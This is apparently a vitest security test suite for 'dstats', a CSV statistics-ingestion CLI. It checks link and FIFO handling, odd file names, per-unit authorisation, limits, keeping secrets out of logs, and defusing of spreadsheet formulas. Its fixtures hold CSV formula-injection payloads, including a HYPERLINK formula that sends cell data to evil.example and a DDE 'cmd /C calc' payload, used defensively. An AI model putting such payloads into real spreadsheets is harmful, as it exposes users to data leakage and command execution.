// SPEC §4/§9 security: dstats reads regular files in <root>/inbox/<source>/ and nothing else. Links
// that lead outside are never followed or read, odd names never crash anything, a source may only
// report for its own units, size and row limits hold, every CSV dstats writes is safe to open in
// Excel, and secrets come from the environment only and never reach the logs.
import { execFile } from 'node:child_process';
import { link, lstat, mkdir, readFile, readdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, type Database } from '../../src/db/connect.js';
import { runCli, type CliResult } from '../helpers/cli.js';
import { cleanup, deletePrefixKeys, dropFiles, submissions, type DropFile } from '../helpers/faults.js';
import { createTestDatabase, serverUrls, tempDir, testQueuePrefix, type TestDatabase } from '../helpers/services.js';

const run = promisify(execFile);

// Strings that must never be stored or logged: they are only in files dstats must not read, or
// are secrets, or are submitted values (logs carry ids and counts only).
const CANARY_SYMLINK = 'CANARY-SYMLINK-6620914';
const CANARY_DIR = 'CANARY-FOLDER-5518277';
const CANARY_HARDLINK = '8675309123';
const DB_PASSWORD = 'S3cr3t-pw-Zq9';
const REDIS_PASSWORD = 'R3dis-pw-Xy7';
const SUBMITTED_VALUE = '7391846';

const header = 'Mã chỉ tiêu;Kỳ báo cáo;Giá trị\n';
const wardFile = (source: string, name: string, indicator: string, value: string): DropFile => ({ source, name, content: `${header}${indicator};2022S1;${value}\n` });

/** Cells a spreadsheet would run as a formula; plain numbers (-5,2) are data. */
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d[\d.,]*$/;
function formulaCells(csvText: string): string[] {
  const rows: string[][] = parse(csvText.replace(/^\uFEFF/, ''), { relax_column_count: true });
  return rows.flat().filter((cell) => FORMULA.test(cell) && !PLAIN_NUMBER.test(cell));
}

async function exists(p: string): Promise<boolean> {
  return lstat(p).then(
    () => true,
    () => false,
  );
}

describe('security', () => {
  let tdb: TestDatabase;
  let root: Awaited<ReturnType<typeof tempDir>>;
  let outside: Awaited<ReturnType<typeof tempDir>>;
  let database: Database;
  let env: Record<string, string>;
  let main: CliResult;
  const inbox = (...parts: string[]) => path.join(root.dir, 'inbox', ...parts);

  const oddNames = ['bao\tcao.csv', 'bao\ncao.csv', 'bao\u0001cao.csv', `thu-ngan-sach-${'ư'.repeat(116)}.csv`, '-rf.csv'];
  const oddFiles = oddNames.map((name, i) => wardFile('05449', name, ['QR_POINTS', 'QR_SCANS', 'CCTV_CAMERAS', 'EID_ACCOUNTS', 'CHIP_ID_CARDS'][i]!, String(10 + i)));
  const formulas: DropFile = {
    source: '05455',
    name: 'cong-thuc.csv',
    content:
      header +
      '"=HYPERLINK(""http://evil.example/?""&A1;""bấm"")";2022S1;1\n' +
      'QR_POINTS;2022S1;=1+2\n' +
      'QR_SCANS;2022S1;@SUM(A1:A9)\n' +
      "CCTV_CAMERAS;2022S1;+cmd|' /C calc'!A0\n" +
      'EID_ACCOUNTS;2022S1;-2+3\n' +
      '-1+1;2022S1;4\n',
  };
  const formulaName: DropFile = { source: '05455', name: '=SUM(1+2)*cmd.xlsx', content: 'not a csv' };
  const otherUnit: DropFile = { source: '05452', name: 'bao-cao-ho.csv', content: 'Mã đơn vị;Mã chỉ tiêu;Kỳ báo cáo;Giá trị\n05440;QR_POINTS;2022S1;5\n05452;QR_SCANS;2022S1;6\n' };
  const cityOnly: DropFile = { source: '164-NV', name: 'cai-cach-phuong.csv', content: 'unit_code,indicator_code,period,value\n05440,PAR_INDEX_SCORE,2022,80.5\n' };
  const distinctive = wardFile('05467', 'quet-qr.csv', 'QR_SCANS', SUBMITTED_VALUE);
  const negative: DropFile = { source: '164-TCKH', name: 'tang-truong.csv', content: 'unit_code,indicator_code,period,value\n164,ECONOMIC_GROWTH_RATE,2022S1,"-5,2"\n' };

  beforeAll(async () => {
    tdb = await createTestDatabase();
    root = await tempDir('security');
    outside = await tempDir('security-outside'); // same file system as the root (/tmp): hard links work
    const withPassword = new URL(tdb.url);
    withPassword.password = DB_PASSWORD; // trust auth ignores it; dstats must not print it
    env = { DATABASE_URL: withPassword.toString(), DSTATS_ROOT: root.dir };
    expect((await runCli(['catalog', 'sync'], env)).code).toBe(0);
    database = await openDatabase({ databaseUrl: tdb.url, embeddedDir: '/nonexistent' });

    // Outside the drop root: a file a symlink points at, a folder a source symlink points at, a
    // file a hard link in an inbox shares its bytes with. Each holds a valid submission.
    await writeFile(path.join(outside.dir, 'bi-mat.csv'), `${header}QR_POINTS;2022S1;1\n${CANARY_SYMLINK};2022S1;2\n`);
    await mkdir(path.join(outside.dir, 'thu-muc'));
    await writeFile(path.join(outside.dir, 'thu-muc', 'bao-cao.csv'), `${header}QR_POINTS;2022S1;3\n${CANARY_DIR};2022S1;4\n`);
    await writeFile(path.join(outside.dir, 'cung.csv'), `${header}QR_SCANS;2022S1;${CANARY_HARDLINK}\n`);

    await mkdir(inbox('05440'), { recursive: true });
    await mkdir(inbox('05446'), { recursive: true });
    await symlink(path.join(outside.dir, 'bi-mat.csv'), inbox('05440', 'lien-ket.csv'));
    await symlink(path.join(outside.dir, 'thu-muc'), inbox('05443'));
    await link(path.join(outside.dir, 'cung.csv'), inbox('05446', 'lien-ket-cung.csv'));

    await dropFiles(root.dir, [...oddFiles, formulas, formulaName, otherUnit, cityOnly, distinctive, negative]);
    await writeFile(inbox('05449', '..csv'), `${header}QR_POINTS;2022S1;99\n`); // a dot-file: ignored like any temporary file
    await run('mkfifo', [inbox('05449', 'ong.csv')]); // reading a FIFO would hang the run
    await mkdir(inbox('05449', 'thu-muc.csv')); // a folder named like a file

    // One pass in this process with every log line on, and a password in DATABASE_URL.
    main = await runCli(['run'], { ...env, LOG_LEVEL: 'debug' });
  });
  afterAll(() => cleanup(() => database?.close(), () => tdb?.drop(), () => root?.remove(), () => outside?.remove()));

  async function stateOf(source: string, name: string) {
    return (await submissions(database)).find((s) => s.source_id === source && s.file_name === name);
  }

  async function errorCodes(source: string, name: string): Promise<string[]> {
    const s = await stateOf(source, name);
    expect(s?.state, `${source}/${name}`).toBe('rejected');
    const rows: string[][] = parse((await readFile(`${s!.stored_path}.errors.csv`, 'utf8')).replace(/^\uFEFF/, ''));
    return rows.slice(1).map((r) => r[3]!);
  }

  async function databaseDump(): Promise<string> {
    const { stdout } = await run('/usr/lib/postgresql/15/bin/pg_dump', ['--data-only', '--no-owner', tdb.url], { maxBuffer: 64 * 1024 * 1024 });
    return stdout;
  }

  it('the pass completes: rejections are reported, nothing crashes', () => {
    expect(main.code, main.stderr.slice(-3000)).toBe(1); // some files are rejected on purpose
    expect(main.stdout).not.toMatch(/failed /);
  });

  it('a symlink in a source folder is ignored: never read, left where it is', async () => {
    expect((await lstat(inbox('05440', 'lien-ket.csv'))).isSymbolicLink()).toBe(true);
    expect(await stateOf('05440', 'lien-ket.csv')).toBeUndefined();
    expect(await readFile(path.join(outside.dir, 'bi-mat.csv'), 'utf8')).toContain(CANARY_SYMLINK);
  });

  it('a source folder that is a symlink to a folder outside is ignored', async () => {
    expect((await lstat(inbox('05443'))).isSymbolicLink()).toBe(true);
    expect((await submissions(database)).filter((s) => s.source_id === '05443')).toEqual([]);
    expect(await readdir(path.join(outside.dir, 'thu-muc'))).toEqual(['bao-cao.csv']);
  });

  it('a hard link to an outside file is rejected as LINKED_FILE and its content is never stored', async () => {
    expect(await errorCodes('05446', 'lien-ket-cung.csv')).toEqual(['LINKED_FILE']);
    // The outside file is untouched (the link itself moved to rejected/, as every rejected file).
    expect(await readFile(path.join(outside.dir, 'cung.csv'), 'utf8')).toContain(CANARY_HARDLINK);
    const dump = await databaseDump();
    expect(dump).toContain('lien-ket-cung.csv'); // the dump is real
    for (const canary of [CANARY_HARDLINK, CANARY_SYMLINK, CANARY_DIR]) {
      expect(dump, `database dump contains ${canary}`).not.toContain(canary);
      expect(main.stdout + main.stderr, `output contains ${canary}`).not.toContain(canary);
    }
    const rejected = await stateOf('05446', 'lien-ket-cung.csv');
    expect(await readFile(`${rejected!.stored_path}.errors.csv`, 'utf8')).not.toContain(CANARY_HARDLINK);
  });

  it('names with control characters, a 250-byte name and "-rf.csv" load; "..csv" is a dot-file and stays; a FIFO and a folder are skipped', async () => {
    expect(Buffer.byteLength(oddNames[3]!)).toBe(250);
    for (const f of oddFiles) {
      const s = await stateOf(f.source, f.name);
      expect(s?.state, JSON.stringify(f.name)).toBe('loaded');
      expect(s!.values_loaded).toBe(1);
      expect(path.dirname(s!.stored_path)).toBe(path.join(root.dir, 'archive', '05449'));
      expect(await exists(s!.stored_path), JSON.stringify(s!.stored_path)).toBe(true);
      expect(await exists(`${s!.stored_path}.receipt.json`)).toBe(true);
    }
    // The long name is shortened to fit beside the .receipt.json dstats adds.
    const long = await stateOf('05449', oddNames[3]!);
    expect(Buffer.byteLength(path.basename(long!.stored_path) + '.receipt.json')).toBeLessThanOrEqual(255);
    expect(await readFile(inbox('05449', '..csv'), 'utf8')).toContain('99');
    expect((await lstat(inbox('05449', 'ong.csv'))).isFIFO()).toBe(true);
    expect((await readdir(inbox('05449'))).sort()).toEqual(['..csv', 'ong.csv', 'thu-muc.csv']);
    expect((await submissions(database)).filter((s) => ['..csv', 'ong.csv', 'thu-muc.csv'].includes(s.file_name))).toEqual([]);
  });

  it('a source cannot submit for another unit (UNIT_NOT_ALLOWED)', async () => {
    expect(await errorCodes('05452', otherUnit.name)).toContain('UNIT_NOT_ALLOWED');
    expect(await errorCodes('164-NV', cityOnly.name)).toEqual(['UNIT_NOT_ALLOWED']);
  });

  it('every cell of every errors.csv is safe to open in Excel', async () => {
    expect(await errorCodes('05455', formulas.name)).not.toEqual([]);
    expect(await errorCodes('05455', formulaName.name)).toEqual(['UNSUPPORTED_FILE_TYPE']);
    const reports: string[] = [];
    for (const s of await submissions(database)) if (s.state === 'rejected') reports.push(`${s.stored_path}.errors.csv`);
    expect(reports.length).toBeGreaterThanOrEqual(5);
    for (const report of reports) {
      const text = await readFile(report, 'utf8');
      expect(formulaCells(text), report).toEqual([]);
    }
    // The submitted formulas are there, defused with a leading apostrophe.
    const text = await readFile(`${(await stateOf('05455', formulas.name))!.stored_path}.errors.csv`, 'utf8');
    const cells: string[] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();
    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1;"bấm")', '=1+2', '@SUM(A1:A9)', "+cmd|' /C calc'!A0", '-2+3', '-1+1']) expect(cells).toContain(`'${formula}`);
  });

  it('dstats validate --report writes a safe errors.csv too', async () => {
    const file = path.join(outside.dir, 'kiem-tra.csv');
    await writeFile(file, formulas.content);
    const report = path.join(outside.dir, 'kiem-tra.errors.csv');
    const result = await runCli(['validate', file, '--source', '05455', '--report', report], env);
    expect(result.code).toBe(1);
    const text = await readFile(report, 'utf8');
    expect(text).toContain("'=1+2");
    expect(formulaCells(text)).toEqual([]);
  });

  it('DSTATS_MAX_FILE_MB: a larger file is FILE_TOO_LARGE', async () => {
    const big = wardFile('05470', 'lon.csv', 'QR_POINTS', '1');
    big.content = `${header}${'QR_POINTS;2022S1;1\n'}${'\n'.repeat(2000)}`; // about 2 kB > 0.001 MB
    await dropFiles(root.dir, [big]);
    const result = await runCli(['run'], { ...env, DSTATS_MAX_FILE_MB: '0.001' });
    expect(result.code).toBe(1);
    expect(await errorCodes('05470', 'lon.csv')).toEqual(['FILE_TOO_LARGE']);
  });

  it('DSTATS_MAX_ROWS: more rows is TOO_MANY_ROWS, as many loads', async () => {
    const rows = (n: number) => header + Array.from({ length: n }, (_, i) => `QR_POINTS;2022${String(i + 1).padStart(2, '0')};${i + 1}\n`).join('');
    await dropFiles(root.dir, [
      { source: '05473', name: 'sau-dong.csv', content: rows(6) },
      { source: '05476', name: 'nam-dong.csv', content: rows(5) },
    ]);
    const result = await runCli(['run'], { ...env, DSTATS_MAX_ROWS: '5' });
    expect(result.code).toBe(1);
    expect(await errorCodes('05473', 'sau-dong.csv')).toEqual(['TOO_MANY_ROWS']);
    expect((await stateOf('05476', 'nam-dong.csv'))?.state).toBe('loaded');
  });

  it('secrets and submitted values never reach stdout/stderr; logs are JSON lines with ids and counts', async () => {
    const output = main.stdout + main.stderr;
    expect(output).not.toContain(DB_PASSWORD);
    expect(output).not.toContain(SUBMITTED_VALUE);
    expect((await stateOf('05467', distinctive.name))?.state).toBe('loaded'); // the value was really processed
    const lines = main.stderr.split('\n').filter((l) => l.trim() !== '');
    expect(lines.length).toBeGreaterThan(5);
    const logs = lines.map((l) => JSON.parse(l) as Record<string, unknown>); // every line is JSON
    expect(logs.some((l) => l.submissionId !== undefined && typeof l.values === 'number')).toBe(true);
    expect(logs.some((l) => l.submissionId !== undefined && typeof l.problems === 'number')).toBe(true);

    // Through the queues, with a password in REDIS_URL too (Redis without auth ignores it).
    const redis = new URL(serverUrls().redisUrl);
    redis.password = REDIS_PASSWORD;
    // Odd names travel through job payloads too (a BullMQ job id may not contain ':').
    await dropFiles(root.dir, [wardFile('05479', 'quet-qr-2.csv', 'QR_SCANS', SUBMITTED_VALUE), wardFile('05479', 'bao:cao\n\u0001hàng đợi.csv', 'QR_POINTS', '8')]);
    const prefix = testQueuePrefix();
    const queued = await runCli(['run'], { ...env, REDIS_URL: redis.toString(), DSTATS_QUEUE_PREFIX: prefix, LOG_LEVEL: 'debug' });
    await deletePrefixKeys(serverUrls().redisUrl, prefix);
    // 0, or 1 when the summary (received since a second before the run) counts the previous test's rejection.
    expect(queued.code, queued.stdout + queued.stderr.slice(-2000)).toBeLessThanOrEqual(1);
    expect((await stateOf('05479', 'quet-qr-2.csv'))?.state).toBe('loaded');
    expect((await stateOf('05479', 'bao:cao\n\u0001hàng đợi.csv'))?.state).toBe('loaded');
    for (const secret of [DB_PASSWORD, REDIS_PASSWORD, SUBMITTED_VALUE]) expect(queued.stdout + queued.stderr).not.toContain(secret);

    // A database that cannot be reached: the error says so without the password.
    const unreachable = await runCli(['status'], { ...env, DATABASE_URL: `postgres://dstats:${DB_PASSWORD}@127.0.0.1:1/dstats` });
    expect(unreachable.code).toBe(3);
    expect(unreachable.stdout + unreachable.stderr).not.toContain(DB_PASSWORD);
    const status = await runCli(['status'], env);
    expect(status.code).toBe(0);
    expect(status.stdout).not.toContain(DB_PASSWORD);
  });

  it('dstats report --format csv is safe to open in Excel', async () => {
    // The catalogue is the city's to edit: names that look like formulas stay text.
    await database.db.updateTable('core.indicator').set({ name_en: '=HYPERLINK("http://evil.example";"x")' }).where('code', '=', 'ECONOMIC_GROWTH_RATE').execute();
    await database.db.updateTable('core.indicator').set({ name_en: '@SUM(1+1)' }).where('code', '=', 'QR_POINTS').execute();
    await database.db.updateTable('core.indicator').set({ name_en: '+1+1' }).where('code', '=', 'QR_SCANS').execute();
    await database.db.updateTable('core.indicator').set({ name_en: '-1+1' }).where('code', '=', 'CCTV_CAMERAS').execute();
    const result = await runCli(['report', '--unit', '164', '--period', '2022S1', '--lang', 'en', '--format', 'csv'], env);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain(`'=HYPERLINK`);
    expect(result.stdout).toContain(`'@SUM(1+1)`);
    expect(formulaCells(result.stdout)).toEqual([]);
  });
});
